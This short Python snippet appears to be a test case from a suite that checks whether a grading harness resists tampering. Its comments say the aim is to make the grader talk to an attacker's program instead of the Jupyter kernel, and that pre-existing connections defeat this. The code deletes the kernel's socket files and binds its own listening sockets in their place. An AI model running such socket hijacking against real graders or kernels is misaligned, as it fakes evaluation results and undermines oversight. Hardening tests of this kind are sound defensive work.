# wants: that the grader talks to a program of the attacker's in the kernel's place
# held by: connections that stand since before the answer ran
import socket
from pathlib import Path

from ipykernel.connect import get_connection_file

kept = []
for path in Path(get_connection_file()).parent.glob("socket-*"):
    path.unlink()
    kept.append(socket.socket(socket.AF_UNIX))
    kept[-1].bind(str(path))
    kept[-1].listen()
